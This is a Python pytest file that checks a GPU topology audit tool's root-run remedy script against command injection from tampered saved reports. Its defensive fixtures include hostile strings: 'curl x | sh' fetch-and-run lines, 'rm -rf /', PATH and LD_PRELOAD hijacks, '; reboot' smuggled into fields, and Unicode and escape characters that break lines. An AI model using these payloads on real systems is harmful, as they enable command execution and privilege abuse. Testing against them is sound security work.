"""A saved report is an attachment from anyone, and ``--format remedy`` is run as root: no text of a report may
reach a line the shell runs. Every command is written again from its template and typed values; everything else
is a comment that no control, format or line-separator character can end."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from topoaudit.errors import InputError
from topoaudit.model.finding import RemedyCommand
from topoaudit.model.report import report_from_dict
from topoaudit.render import render
from topoaudit.rules.remedies import PROFILE_PLACES, InvalidRemedy, plain_text, rebuild, remedy

BASH = shutil.which("bash")
needs_bash = pytest.mark.skipif(BASH is None, reason="bash is not installed")

# What an attacker writes into a report: shell syntax, and every character that could end a comment line or make
# it read as something else (CR, ESC, C1 NEL and CSI, U+2028/U+2029, the right-to-left override, a zero-width space).
PAYLOADS = (
    "\nexport PATH=/tmp/x:/usr/bin:/bin",
    "\rexport LD_PRELOAD=/tmp/x.so",
    "\x1b[2K\x1b[1Gexport BASH_ENV=/tmp/x",
    "\x85unset PATH",
    "\u2028$(touch PWNED)",
    "\u2029`touch PWNED`",
    "\u202e; touch PWNED #",
    "\x9b2K\u200b|| touch PWNED",
)
HOSTILE = "".join(PAYLOADS)
# Commands a hostile report asks for: foreign shapes, known templates with values that are not of their type, and
# known templates with valid values whose saved text says something else (the text must be ignored).
HOSTILE_COMMANDS: list[dict[str, Any]] = [
    {"action": "shell", "params": {"line": "export PATH=/tmp/x:/usr/bin:/bin"}, "command": "export PATH=/tmp/x"},
    {"action": "environment-find", "params": {"variable": "LD_PRELOAD", "value": "/tmp/x.so"}, "command": "x"},
    {"action": "environment-find", "params": {"variable": "PATH", "value": "x"}, "command": "unset PATH"},
    {"action": "nccl-conf-delete", "params": {"variables": "NCCL_P2P_DISABLE,BASH_ENV", "file": "/etc/nccl.conf"}},
    {"action": "nccl-conf-delete", "params": {"variables": "NCCL_P2P_DISABLE", "file": "/etc/passwd"}},
    {"action": "acs-clear", "params": {"bridge": "00ff:03:00.0; reboot", "control": "0x1d"}},
    {"action": "acs-clear", "params": {"bridge": "00ff:03:00.0", "control": "0x1d; reboot"}},
    {"action": "acs-clear", "params": {"bridge": "00ff:03:00.0", "control": "0x1ffff"}},
    {"action": "service-start", "params": {"service": "nvidia-fabricmanager; curl x | sh"}},
    {"action": "module-load", "params": {"module": "nvidia_peermem\nreboot"}},
    {"action": "module-load", "params": {"module": "nvidia_peermem", "extra": "x"}},
    {"action": "module-load", "params": {}},
    {
        "action": "module-load",
        "params": {"module": "nvidia_peermem"},
        "command": "modprobe nvidia_peermem; touch PWNED",
        "changes": "loads it" + HOSTILE,
        "undo": "curl http://x | sh",
    },
    {
        "action": "pcie-link-check",
        "params": {"device": "0000:1b:00.0", "who": "GPU1" + HOSTILE, "slot": "2" + HOSTILE},
        "command": "lspci; touch PWNED",
    },
]
# Exactly the lines the valid requests above may run, whatever their saved text said.
EXPECTED_RUNNABLE = [
    "set -euo pipefail",
    "modprobe nvidia_peermem",
    "lspci -vv -s 0000:1b:00.0 | grep -E 'LnkCap:|LnkSta:' || true",
]


def _saved_report(tmp_path: Path) -> dict[str, Any]:
    proc = subprocess.run(
        [sys.executable, "-m", "topoaudit", "analyze", "--example", "h200-nvl-split", "--tp", "8", "--format", "json"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 1, proc.stderr
    report: dict[str, Any] = json.loads(proc.stdout)
    report["findings"][0]["remedy_commands"] = HOSTILE_COMMANDS
    return report


def _paths(value: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    if isinstance(value, dict):
        return [p for k, v in value.items() for p in _paths(v, (*at, k))]
    if isinstance(value, list):
        return [p for i, v in enumerate(value) for p in _paths(v, (*at, i))]
    return [at] if isinstance(value, str) else []


def _poisoned(report: dict[str, Any]) -> tuple[dict[str, Any], int]:
    """The report with HOSTILE appended to every string field the reader accepts it in; how many fields took it.

    A field whose type refuses the text (an enum, a number, an absent value's status) is put back: the reader
    refusing a report is safe, and the point is to reach the renderer with as much attacker text as possible.
    """
    data = json.loads(json.dumps(report))
    taken = 0
    for path in _paths(data):
        if "params" in path or path[-1] == "action":  # the requests above as written; their saved text is poisoned
            continue
        holder = data
        for key in path[:-1]:
            holder = holder[key]
        holder[path[-1]] += HOSTILE
        try:
            report_from_dict(data)
            taken += 1
        except InputError:
            holder[path[-1]] = holder[path[-1]][: -len(HOSTILE)]
    return data, taken


def _runnable(script: str) -> list[str]:
    return [line for line in script.splitlines() if line.strip() and not line.lstrip().startswith("#")]


def test_no_report_text_reaches_a_line_the_shell_runs(tmp_path: Path) -> None:
    data, fields = _poisoned(_saved_report(tmp_path))
    assert fields > 50  # the attacker text reached the renderer in many fields, not in a handful
    script = render(report_from_dict(data), "remedy")
    assert _runnable(script) == EXPECTED_RUNNABLE
    for line in script.splitlines():  # nothing in any line, comment or not, can end it or hide what it says
        assert line == plain_text(line, 10_000) or not line.strip(), repr(line)
    assert script.count("# left out, not a command topoaudit writes") == len(HOSTILE_COMMANDS) - 2


@needs_bash
def test_running_the_script_of_a_hostile_report_runs_only_the_template_commands(tmp_path: Path) -> None:
    data, _ = _poisoned(_saved_report(tmp_path))
    saved = tmp_path / "report.json"
    saved.write_text(json.dumps(data))
    proc = subprocess.run(
        [sys.executable, "-m", "topoaudit", "report", str(saved), "--format", "remedy"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 1, proc.stderr  # the report's own FAIL
    script = tmp_path / "fix.sh"
    script.write_text(proc.stdout)
    bin_dir, log = tmp_path / "bin", tmp_path / "ran.log"
    bin_dir.mkdir()
    for tool in ("setpci", "modprobe", "systemctl", "lspci", "grep", "sed", "mv", "rm", "touch", "curl", "sh",
                 "reboot", "shutdown", "cat"):  # fmt: skip
        (bin_dir / tool).write_text(f'#!{BASH}\necho "{tool} $*" >> "{log}"\n')
        (bin_dir / tool).chmod(0o755)
    env = {"PATH": str(bin_dir), "HOME": str(tmp_path)}
    assert subprocess.run([BASH, "-n", str(script)], env=env, capture_output=True, check=False).returncode == 0
    run = subprocess.run([BASH, str(script)], env=env, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert run.returncode == 0, run.stderr
    ran = sorted(log.read_text().splitlines())  # the two sides of a pipe start in either order
    assert ran == ["grep -E LnkCap:|LnkSta:", "lspci -vv -s 0000:1b:00.0", "modprobe nvidia_peermem"]
    assert not (tmp_path / "PWNED").exists()


@pytest.mark.parametrize(
    ("action", "values"),
    [
        ("acs-clear", {"bridge": "0000:00:1F.0", "control": "29"}),
        ("acs-clear", {"bridge": "0000:00:01.0", "control": "0x1d"}),
        ("service-start", {"service": "nvidia-fabricmanager"}),
        ("environment-find", {"variable": "NCCL_P2P_LEVEL", "value": "LOC; rm -rf /"}),
        ("nccl-conf-delete", {"variables": "NCCL_IB_DISABLE,NCCL_P2P_DISABLE", "file": "/etc/nccl.conf"}),
    ],
)
def test_a_command_is_the_same_however_its_saved_text_was_edited(action: str, values: dict[str, str]) -> None:
    made = remedy(action, **values)
    edited = RemedyCommand(made.action, dict(made.params), "reboot", "nothing" + HOSTILE, "reboot")
    assert rebuild(edited) == made
    assert "rm -rf" not in made.command and "\n" not in made.changes


@pytest.mark.parametrize(
    ("action", "values"),
    [
        ("acs-clear", {"bridge": "0000:00:01.0\n", "control": "1"}),
        ("acs-clear", {"bridge": "0000:00:01", "control": "1"}),
        ("acs-clear", {"bridge": "0000:00:01.8", "control": "1"}),
        ("acs-clear", {"bridge": "0000:00:01.0", "control": "-1"}),
        ("acs-clear", {"bridge": "0000:00:01.0", "control": "65536"}),
        ("environment-find", {"variable": "NCCL_FOO", "value": "1"}),
        ("environment-find", {"variable": "PATH", "value": "1"}),
        ("environment-find", {"variable": "LD_PRELOAD", "value": "1"}),
        ("environment-find", {"variable": "BASH_ENV", "value": "1"}),
        ("nccl-conf-delete", {"variables": "", "file": "/etc/nccl.conf"}),
        ("nccl-conf-delete", {"variables": "NCCL_P2P_DISABLE", "file": "/etc/nccl.conf; reboot"}),
        ("service-start", {"service": "sshd"}),
        ("service-enable", {"service": "nvidia-fabricmanager "}),
        ("module-load", {"module": "nvidia"}),
        ("export", {"name": "PATH", "value": "/tmp"}),
    ],
)
def test_values_not_of_their_type_are_refused(action: str, values: dict[str, str]) -> None:
    with pytest.raises(InvalidRemedy):
        remedy(action, **values)


def test_a_variable_of_the_environment_is_found_where_it_is_set_not_unset_in_the_script() -> None:
    """``unset`` under ``sudo bash`` changes nothing a job sees; the script lists the files that set it instead."""
    made = remedy("environment-find", variable="NCCL_P2P_DISABLE", value="1")
    assert made.command == f"grep -rnw -e NCCL_P2P_DISABLE {PROFILE_PLACES} 2>/dev/null || true"
    assert "changes nothing" in made.changes and "NCCL_P2P_DISABLE=1" in made.changes and made.undo == ""


@pytest.mark.parametrize(
    "char", ["\n", "\r", "\x00", "\x1b", "\x7f", "\x85", "\x9b", "\u2028", "\u2029", "\u202e", "\u2066", "\u200b"]
)
def test_comment_text_loses_every_character_that_could_end_or_disguise_a_line(char: str) -> None:
    assert plain_text(f"a{char}b") == "a b"
    assert os.linesep not in plain_text(f"x{char}{char}y")


def test_settings_a_paste_shows_typed_or_echoed_reach_the_script_only_as_comments(tmp_path: Path) -> None:
    """A pasted command line and NCCL's echo of a variable carry the paster's text: the finding names them, the
    script finds where the echoed variable is set by its name alone, and the values stay in comments."""
    paste = tmp_path / "paste.txt"
    paste.write_text(
        "$ NCCL_P2P_DISABLE=1 NCCL_SOCKET_IFNAME=$(touch${IFS}PWNED) ./run\n"
        "host:1:1 [0] NCCL INFO NCCL_SHM_DISABLE set by environment to 1;touch PWNED\n"
        "host:1:1 [0] NCCL INFO Channel 00 : 0[0] -> 1[1] via NET/Socket/0\n",
        encoding="utf-8",
    )
    script = subprocess.run(
        [sys.executable, "-m", "topoaudit", "analyze", str(paste), "--format", "remedy"],
        capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip
    assert "NCCL_SOCKET_IFNAME=$(touch${IFS}PWNED)" in script  # said, in a comment
    assert not [line for line in _runnable(script) if "PWNED" in line or "$(" in line]
